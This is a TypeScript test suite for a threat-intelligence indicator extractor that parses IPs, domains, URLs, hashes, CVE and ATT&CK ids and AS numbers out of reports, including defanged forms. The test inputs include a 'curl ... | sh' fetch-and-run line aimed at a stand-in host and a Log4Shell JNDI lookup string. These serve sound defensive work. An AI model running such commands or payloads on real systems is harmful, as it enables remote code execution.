import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { extract, type ExtractedIndicator, type StoredType } from '../../src/indicators/index.ts';

const pairs = (xs: ExtractedIndicator[]): string[] => xs.map((x) => `${x.type} ${x.value}`);
const top = (text: string): string[] => pairs(extract(text, { includeParts: false }));

describe('extract: what is found', () => {
  const FOUND: [string, string[]][] = [
    ['C2 at 185.220.101.5 today', ['ipv4 185.220.101.5']],
    ['ip=10.0.0.1:8080', ['ipv4 10.0.0.1']],
    ['src 2001:DB8::1 dst', ['ipv6 2001:db8::1']],
    ['mapped ::ffff:192.0.2.1 here', ['ipv6 ::ffff:192.0.2.1']],
    ['blocked 5.188.206.0/24 and 2a06:4880::/32.', ['cidr 5.188.206.0/24', 'cidr 2a06:4880::/32']],
    ['visit evil.com now', ['domain evil.com']],
    ['visit evil[.]com now', ['domain evil.com']],
    ['see hxxps://evil[.]com/a?b=1 now', ['url https://evil.com/a?b=1']],
    ['(https://evil.com/a).', ['url https://evil.com/a']], // closing bracket and full stop are not part of the URL
    ['https://en.wikipedia.org/wiki/Foo_(bar), ok', ['url https://en.wikipedia.org/wiki/Foo_(bar)']], // balanced brackets are
    ['<a href="http://evil.com/x">', ['url http://evil.com/x']],
    ['mail bob@Evil.COM please', ['email bob@evil.com']],
    ['mail bob[@]evil[.]com please', ['email bob@evil.com']],
    ['hash 44D88612FEA8A8F36DE82E1278ABB02F.', ['md5 44d88612fea8a8f36de82e1278abb02f']],
    ['CVE-2021-44228 and cve-2022-22965', ['cve CVE-2021-44228', 'cve CVE-2022-22965']],
    ['uses T1059.001 under TA0002', ['mitre-attack T1059.001', 'mitre-attack TA0002']],
    ['github.com/org/repo is the source', ['url http://github.com/org/repo']],
    ['${jndi:ldap://45.83.193.150:1389/a}', ['url ldap://45.83.193.150:1389/a']],
    ['invoice[.]zip was the domain', ['domain invoice.zip']], // defanged: meant as a domain
    ['www.evil.host', ['domain www.evil.host']], // ends like a field name, but its labels are no field words
    ['www.evil[.]host', ['domain www.evil.host']],
    ['münchen-login.de', ['domain xn--mnchen-login-dlb.de']],
    // the candidates' pattern is case-sensitive with these written out in both cases: any case is still found
    ['HTTPS://Evil.Example.COM/Path and HxxPs://bad[.]org/x', ['url https://evil.example.com/Path', 'url https://bad.org/x']],
    ['Ftp://files.evil.net/a and sFTP://10.1.2.3/b', ['url ftp://files.evil.net/a', 'url sftp://10.1.2.3/b']],
    ['D41D8CD98F00B204E9800998ECF8427E and d41d8cd98f00b204e9800998ecf8427F', ['md5 d41d8cd98f00b204e9800998ecf8427e', 'md5 d41d8cd98f00b204e9800998ecf8427f']],
    ['cve-2021-44228, Cve 2021 44229, cVe\u20102021\u201044230', ['cve CVE-2021-44228', 'cve CVE-2021-44229', 'cve CVE-2021-44230']],
    ['asn 13335, Asn: 64496 and ASN64497', ['asn AS13335', 'asn AS64496', 'asn AS64497']],
    ['FE80::ABCD:1 and Fe80::1', ['ipv6 fe80::abcd:1', 'ipv6 fe80::1']],
  ];
  for (const [text, expected] of FOUND) test(JSON.stringify(text), () => assert.deepEqual(top(text), expected));
});

describe('extract: precision traps', () => {
  const NOTHING = [
    'open file.exe and report.pdf',
    'upgrade to version 1.2.3 or 2.17.1.4.5',
    'e.g. this, i.e. that, etc.',
    'attachment invoice.zip and setup.py and readme.md',
    '"dns.question.name": "x", "rule.id": 5, "user.email": null',
    'built with ASP.NET and Node.js',
    'MAC 00:1a:2b:3c:4d:5e at 12:30:45',
    'std::vector<int> and a::b',
    // hashes inside longer hex runs are not hashes
    'key 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08aa11bb22',
    'x_44d88612fea8a8f36de82e1278abb02f',
    '44d88612fea8a8f36de82e1278abb02fg',
    // 32 digits is a number, 32 letters a word
    'id 12345678901234567890123456789012 and abcdefabcdefabcdefabcdefabcdefab',
    'ints 999.1.1.1 and 01.2.3.4 are not addresses',
    'ver v1.2.3.4 and 1.2.3.4.5',
    'CVE-2021-12 is short',
    'localhost and wiki.corp.local and http://intranet/',
    'a dot com company; meet at noon',
    't1059 lower case',
  ];
  for (const text of NOTHING) test(JSON.stringify(text), () => assert.deepEqual(top(text), []));
});

describe('extract: texts no one here wrote (reports, mails, PDFs, shell sessions)', () => {
  const FOUND: [string, string, string[]][] = [
    // bare domains on short TLDs that are also file extensions, in prose
    ['short TLDs in prose', 'Operators staged tools on evil.cc and payload.ai, then update-check.pl and evil.ru.', ['domain evil.cc', 'domain payload.ai', 'domain update-check.pl', 'domain evil.ru']],
    ['a .name host and a second-level .co.id', 'phished from login.bank-secure.co.id and cdn.evil.name today', ['domain login.bank-secure.co.id', 'domain cdn.evil.name']],
    ['Polish domains in prose', 'Ofiara trafia na stronę olx-dostawa24.pl albo allegro-lokalnie-platnosc.pl.', ['domain olx-dostawa24.pl', 'domain allegro-lokalnie-platnosc.pl']],
    ['a domain word wins over a file-ish name', 'the C2 domain setup.py resolved to 10.1.2.3', ['domain setup.py', 'ipv4 10.1.2.3']],
    ['a network command takes a host', '$ ping -c1 mirror-update.pl', ['domain mirror-update.pl']],
    ['an upper-case host of several labels is still a host', 'Beacons went to UPDATE.MIRROR-CHECK.PL at night.', ['domain update.mirror-check.pl']],
    ['curl takes a host too', 'curl -sL update-check.pl/x | sh', ['url http://update-check.pl/x']],
    // CVE and ATT&CK ids as PDFs and word processors write them
    ['CVE with en dashes', 'Citrix Bleed (CVE–2023–4966) leaks tokens', ['cve CVE-2023-4966']],
    ['CVE with non-breaking hyphens', 'Cisco IOS XE (CVE‑2023‑20198)', ['cve CVE-2023-20198']],
    ['CVE with spaces', 'the Log4j flaw (CVE 2021 44228)', ['cve CVE-2021-44228']],
    ['CVE with no-break spaces', 'ScreenConnect (CVE\u00a02024\u00a01709)', ['cve CVE-2024-1709']],
    ['CVE broken after its dash', 'GlobalProtect (CVE-2024-\n3400) was exploited', ['cve CVE-2024-3400']],
    ['CVE with hyphen characters', 'Follina CVE‐2022‐30190 and CVE−2017−11882', ['cve CVE-2022-30190', 'cve CVE-2017-11882']],
    ['ATT&CK sub-technique after a non-breaking hyphen', 'encoded PowerShell (T1059‑001)', ['mitre-attack T1059.001']],
    // wildcards, paths after addresses and hosts
    ['a wildcard domain, defanged', 'DNS tunnel under *.tun.silent-harbor[.]net', ['domain tun.silent-harbor.net']],
    ['an address with a port and a path', 'staged at 192.168.0.1:9090/url today', ['url http://192.168.0.1:9090/url']],
    ['a host with a bare slash', 'see example[.]com/ for more', ['url http://example.com/']],
    // addresses defanged with spaces and words
    ['at in brackets, dot as a word', 'write to myuser [at] example dot com please', ['email myuser@example.com']],
    ['at and dot as words', 'or billing at parcel-notice dot com', ['email billing@parcel-notice.com']],
    ['spaces around @, dot in brackets', 'mail myuser @ example[.]com now', ['email myuser@example.com']],
    ['a space before @ only, defanged after it', 'mail myuser @example[.]com now', ['email myuser@example.com']],
    ['spaces around @ without other defanging', 'mail foo @ bar.com now', ['email foo@bar.com']],
    // obfuscated schemes
    ['h__ps__', 'pay at h__ps__parcel-notice.com/fee?id=7 now', ['url https://parcel-notice.com/fee?id=7']],
    ['http:\\\\', 'or http:\\\\parcel-notice.com/fee', ['url http://parcel-notice.com/fee']],
    ['https:__', 'backup https:__pay.parcel-notice.com/checkout', ['url https://pay.parcel-notice.com/checkout']],
    ['ftx://', 'invoices at ftx://files.parcel-notice.com/inv/', ['url ftp://files.parcel-notice.com/inv/']],
    ['hXXps:// and a space', 'kit at hXXps:// 192.168.149[.]100/secure/login.php', ['url https://192.168.149.100/secure/login.php']],
    ['h00ps in CDATA', 'CDATA[^h00ps://test(.)com/]]>', ['url https://test.com/']],
    ['http ://', 'see http ://example.com/test.php', ['url http://example.com/test.php']],
    ['Cisco ESA spaces', 'http:// example .com /test', ['url http://example.com/test']],
    ['commas in a host', 'http://192,168,0,1/x and http://example,com/', ['url http://192.168.0.1/x', 'url http://example.com/']],
    // a Markdown link written with its own address as text is two URLs
    ['Markdown link with its address as text', '[https://a.example.org/x.png](https://a.example.org/x.png)', ['url https://a.example.org/x.png', 'url https://a.example.org/x.png']],
  ];
  for (const [name, text, expected] of FOUND) test(name, () => assert.deepEqual(top(text), expected, text));

  const NOTHING: [string, string][] = [
    ['a version number', 'The implant reports itself as version 2.4.1.7 (build: 10.0.0.1).'],
    ['a version number in Polish', 'Zestaw w wersji 3.2.1.4 wysyła dane.'],
    ['files in a command line', '$ python3 setup.py install && bash install.sh && chmod +x run.sh'],
    ['a file after a command, no prompt', 'the dropper starts it with bash run.sh and perl collect.pl'],
    ['an output file', 'wget -q -O loader.py'],
    ['a file listing', '-rwxr-xr-x 1 analyst analyst 5120 Mar 11 09:13 update-check.pl'],
    ['a tree listing', '├── notes.md\n└── beacon.py'],
    ['grep -n output', 'install.sh:12:curl -fsSL'],
    ['file words before the names', 'the archive parrotloader.zip held a script collect.pl and a file evil.cc'],
    ['a code span', 'it drops `beacon.py` next to `notes.md`'],
    ['an underscore in the name', 'statement_nov2022.zip and lh_x86.sh'],
    ['usual file base names', 'Other names: readme.md, setup.py, main.rs, lib.rs, install.sh'],
    ['upper-case file names in prose', 'SOURCES.md names every file; CONVENTIONS.md summarizes escaping, see NOTES.sh'],
    ['field names', '"dns.question.name": "x", "rule.id": 5, rule.id=7, ${host.name} and the event.id field'],
    ['no at word, prose', 'a dot com company; meet at noon'],
  ];
  for (const [name, text] of NOTHING) test(`nothing: ${name}`, () => assert.deepEqual(top(text), [], text));

  test('sha256sum output: the hash, not the file', () => {
    const text = '8b1e0c7d6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c  install.sh';
    assert.deepEqual(top(text), ['sha256 8b1e0c7d6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c']);
  });

  test('a name read as a file stays a file later in the same text where nothing says otherwise', () => {
    const text = '-rwxr-xr-x 1 root root 5120 Mar 11 09:13 update-check.pl\nupdate-check.pl: config OK\nand evil.cc';
    assert.deepEqual(top(text), ['domain evil.cc']);
  });

  test('long texts are scanned in chunks with the same results as line by line', () => {
    const lines: string[] = [];
    for (let i = 0; i < 1500; i++) lines.push(i % 7 === 0 ? `line ${i} hxxp://evil${i}[.]com/a and 10.0.${i % 250}.1 CVE-2024-\n${1000 + i}` : `line ${i} nothing here but words, words and words`);
    const text = lines.join('\n');
    assert.ok(text.length > 64 * 1024);
    const whole = extract(text);
    const byLine: ExtractedIndicator[] = [];
    let offset = 0;
    for (const line of text.split(/(?<=\n)(?!\d)/)) {
      for (const x of extract(line)) byLine.push({ ...x, start: x.start + offset, end: x.end + offset });
      offset += line.length;
    }
    assert.equal(whole.length, byLine.length);
    assert.deepEqual(whole, byLine);
    for (const x of whole) assert.ok(x.start >= 0 && x.end <= text.length);
  });
});

describe('extract: offsets, parts and options', () => {
  test('offsets point at the text as written, defanged or not', () => {
    const text = 'x hxxps://login[.]evil[.]com/a y 1.2.3[.]4 z';
    const got = extract(text);
    assert.deepEqual(
      got.map((g) => [g.type, text.slice(g.start, g.end)]),
      [
        ['url', 'hxxps://login[.]evil[.]com/a'],
        ['domain', 'login[.]evil[.]com'],
        ['ipv4', '1.2.3[.]4'],
      ],
    );
  });

  test('offsets cover swallowed spaces, JSON escapes and full-width dots', () => {
    for (const [text, written] of [
      ['a evil [.] com b', 'evil [.] com'],
      ['{"u":"http:\\/\\/evil.com\\/x"}', 'http:\\/\\/evil.com\\/x'],
      ['访问 update-check．top 了', 'update-check．top'],
      ['x 1.2.3[.]4', '1.2.3[.]4'],
    ] as const) {
      const first = extract(text, { includeParts: false })[0];
      assert.ok(first, text);
      assert.equal(text.slice(first.start, first.end), written);
    }
  });

  test('the host of a URL and the domain of an email are reported as parts', () => {
    const got = extract('go http://1.2.3.4:8080/x or http://[2001:db8::1]/ or mail a@b.example.org');
    assert.deepEqual(
      got.map((g) => [g.type, g.value, g.partOf?.type ?? null]),
      [
        ['url', 'http://1.2.3.4:8080/x', null],
        ['ipv4', '1.2.3.4', 'url'],
        ['url', 'http://[2001:db8::1]/', null],
        ['ipv6', '2001:db8::1', 'url'],
        ['email', 'a@b.example.org', null],
        ['domain', 'b.example.org', 'email'],
      ],
    );
    const part = got[1] as ExtractedIndicator;
    assert.deepEqual(part.partOf, { type: 'url', value: 'http://1.2.3.4:8080/x' });
  });

  test('includeParts: false drops the parts', () => {
    assert.deepEqual(pairs(extract('http://evil.com/a', { includeParts: false })), ['url http://evil.com/a']);
  });

  test('refang: false matches the text as written', () => {
    assert.deepEqual(pairs(extract('evil[.]com and bad.org', { refang: false })), ['domain bad.org']);
  });

  test('types keeps only the listed types (parts included when their type is listed)', () => {
    const text = 'http://evil.com/a 1.2.3.4 CVE-2021-44228';
    assert.deepEqual(pairs(extract(text, { types: ['domain', 'cve'] as StoredType[] })), ['domain evil.com', 'cve CVE-2021-44228']);
    assert.deepEqual(pairs(extract(text, { types: ['ipv4'] })), ['ipv4 1.2.3.4']);
  });

  test('results come in order of appearance and every occurrence is reported', () => {
    const got = extract('1.1.1.1 then evil.com then 1.1.1.1');
    assert.deepEqual(got.map((g) => g.start), [0, 13, 27]);
  });

  test('empty and non-string input give an empty list', () => {
    assert.deepEqual(extract(''), []);
    assert.deepEqual(extract(undefined as unknown as string), []);
  });

  test('JSON alert text', () => {
    const alert = JSON.stringify({ src: '91.92.243.85', url: 'https://bad.example.net/x.ps1', sha1: '3395856CE81F2B7382DEE72602F798B642F14140', name: 'powershell.exe' });
    assert.deepEqual(top(alert), ['ipv4 91.92.243.85', 'url https://bad.example.net/x.ps1', 'sha1 3395856ce81f2b7382dee72602f798b642f14140']);
  });
});

describe('extract: AS numbers', () => {
  // "as" is an English word: an AS number is `AS` glued to its digits, `ASN` before a number, or
  // `AS 123` in capitals — never a lower-case "as", and never part of a name or a longer number.
  const FOUND: [string, string[]][] = [
    ['hosted in AS13335 (Cloudflare)', ['asn AS13335']],
    ['bulletproof hosting AS49392.', ['asn AS49392']],
    ['ASN 64496 announced the range', ['asn AS64496']],
    ['ASN: 64496', ['asn AS64496']],
    ['asn=64496 country=NL', ['asn AS64496']],
    ['ASN13335', ['asn AS13335']],
    ['ASN#64496', ['asn AS64496']],
    ['routed by AS 64496 since May', ['asn AS64496']],
    ['AS13335, AS15169 and AS16509', ['asn AS13335', 'asn AS15169', 'asn AS16509']],
    ['(AS4200000001)', ['asn AS4200000001']], // 32-bit
    ['AS64496/AS64497', ['asn AS64496', 'asn AS64497']],
    ['"asn": "AS64496"', ['asn AS64496']],
    ['AS0064496', ['asn AS64496']], // leading zeros dropped
    ['AS 12 is old', ['asn AS12']],
    ['as64496.example.net resolves', ['domain as64496.example.net']], // a name, not an AS
    ['mail noc@as64496.example.net', ['email noc@as64496.example.net']],
  ];
  for (const [text, expected] of FOUND) test(`found: ${JSON.stringify(text)}`, () => assert.deepEqual(top(text), expected));

  const NOTHING = [
    'such as 2019 and as 5 of them',
    'as13335 in lower case is a token, not an AS',
    'SUCH AS 2019 WAS A GOOD YEAR', // a capital word before: a headline
    'IBM AS400 and an AS/400',
    'AS2 and AS4 are EDI protocols; AS3 is ActionScript',
    'AS1 alone', // one digit after AS
    'ASN.1 and ASN1 encodings',
    'AS0 and ASN 0 are reserved',
    'AS4294967296 is past 32 bits',
    'AS12345678901 is too long',
    'CLASS123 and BIAS99 and GAS20',
    'AS13335x and AS13335_a and AS13335-gw',
    'AS 1.5 and AS 13,335',
  ];
  for (const text of NOTHING) test(`not found: ${JSON.stringify(text)}`, () => assert.deepEqual(top(text), []));

  test('offsets cover what the text wrote; types: ["asn"] keeps only them', () => {
    const text = 'C2 185.220.101.5 sits in ASN 64496 (AS64496)';
    const found = extract(text, { types: ['asn'] });
    assert.deepEqual(found.map((x) => [x.value, text.slice(x.start, x.end)]), [['AS64496', 'ASN 64496'], ['AS64496', 'AS64496']]);
  });
});
